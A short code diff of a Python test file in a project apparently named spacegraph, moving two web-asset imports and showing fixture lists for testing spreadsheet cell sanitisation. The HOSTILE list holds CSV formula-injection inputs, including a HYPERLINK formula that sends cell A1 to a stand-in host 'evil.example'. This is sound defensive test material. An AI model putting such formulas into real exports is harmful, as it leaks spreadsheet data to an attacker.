@@ -26,7 +26,8 @@ from spacegraph.analysis.exports import export
 from spacegraph.cli import cli
 from spacegraph.query import run_query, spreadsheet_cell
 from spacegraph.store.oxigraph import OxigraphStore
-from spacegraph.web import NODE_MODULES, YASGUI_STYLES, create_app
+from spacegraph.web import create_app
+from spacegraph.web.headers import NODE_MODULES, YASGUI_STYLES
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1:A2)", "\tcmd", "\r=1"]
 SAFE = ["plain", "-5", "+1.5e3", "0", "a=b", ""]
